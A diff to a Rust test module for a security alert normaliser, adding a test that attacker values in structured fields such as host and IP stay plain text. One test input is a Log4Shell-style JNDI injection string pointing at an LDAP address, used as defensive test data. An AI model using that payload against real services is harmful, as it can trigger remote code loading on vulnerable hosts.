@@ -507,6 +507,53 @@ mod tests {
         assert_eq!(from_epoch(-1.0), None);
     }
 
+    /// Issue 23: what an attacker writes into a structured field that is
+    /// no valid entity of its kind stays text, in every format.
+    #[test]
+    fn attacker_values_in_structured_fields_stay_text() {
+        let mut draft = AlertDraft {
+            rule: Some(RuleRef {
+                uid: None,
+                name: "r".into(),
+            }),
+            time: Some(OffsetDateTime::UNIX_EPOCH),
+            ..AlertDraft::default()
+        };
+        let jndi = "${jndi:ldap://198.51.100.66:1389/a}";
+        draft.field(ObservableKind::Domain, "http.request.host", jndi);
+        draft.field(ObservableKind::Host, "host.name", jndi);
+        draft.field(ObservableKind::Ip, "source.ip", "Chrome/111.0.0.0");
+        draft.field(ObservableKind::Ip, "destination.ip", "255.255.255.255");
+        draft.field(ObservableKind::Domain, "dns.question.name", "Shop.Example.");
+        let alert = draft
+            .finish(SourceFormat::Ecs, serde_json::json!({}), "x", "h")
+            .expect("an alert");
+        let structured: Vec<(ObservableKind, &str)> = alert
+            .observables
+            .iter()
+            .filter(|o| o.is_structured())
+            .map(|o| (o.kind, o.value.as_str()))
+            .collect();
+        assert_eq!(structured, vec![(ObservableKind::Domain, "shop.example")]);
+        // What the refused value mentions is still found, as text.
+        let address = alert
+            .observables
+            .iter()
+            .find(|o| o.value == "198.51.100.66")
+            .expect("found in the refused value");
+        assert_eq!(
+            address.provenance,
+            vec![
+                Provenance::Text {
+                    field: "host.name".into()
+                },
+                Provenance::Text {
+                    field: "http.request.host".into()
+                }
+            ]
+        );
+    }
+
     #[test]
     fn detect_names_what_it_saw() {
         assert_eq!(
